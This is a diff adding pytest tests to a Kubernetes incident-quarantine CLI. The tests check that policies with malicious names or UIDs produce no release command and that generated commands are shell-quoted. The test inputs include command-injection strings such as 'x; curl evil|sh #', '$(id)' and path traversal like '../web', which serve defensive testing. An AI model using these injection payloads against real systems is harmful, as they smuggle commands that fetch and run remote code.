@@ -9,6 +9,8 @@ import pytest
 
 from cli_harness import OTHER, UID, Cli, condition, cut_pod, incident, policy, write_kubeconfig
 from fake_api import Answer, FakeApi, Fault
+from firebreak.cli.lifting import Orphan
+from firebreak.model.names import IncidentRef
 
 SEALED = {
     "url": "s3://evidence/incidents/shop/shell-1",
@@ -100,6 +102,35 @@ async def test_a_quarantine_without_its_incident_is_named_with_its_release(fake:
     ]
     shown = await cli("status")
     assert f"firebreak release shell -n shop --uid {UID}" in shown.out
+
+
+@pytest.mark.parametrize(
+    ("name", "uid"),
+    [
+        ("x; curl evil|sh #", UID),
+        ("$(id)", UID),
+        ("--help", UID),
+        ("x\n", UID),
+        ("x" * 254, UID),
+        ("", UID),
+        ("x", "../web"),
+        ("x", f"{UID}.x"),
+        ("x", "probe-1"),
+    ],
+)
+async def test_a_policy_that_no_incident_can_have_left_prints_no_command(
+    fake: FakeApi, cli: Cli, name: str, uid: str
+) -> None:
+    fake.put(policy(name, uid))
+    ran = await cli("status", "-o", "json")
+    assert (ran.code, ran.json["orphans"]) == (0, [])
+    shown = await cli("status")
+    assert "release" not in shown.out
+
+
+def test_the_command_that_lifts_an_orphan_is_quoted_for_a_shell() -> None:
+    orphan = Orphan(IncidentRef("shop", "x; curl evil|sh #", "$(id)"), "firebreak-x")
+    assert orphan.command == "firebreak release 'x; curl evil|sh #' -n shop --uid '$(id)'"
 
 
 async def test_who_may_not_read_policies_is_told_that_orphans_are_unknown(fake: FakeApi, cli: Cli) -> None:
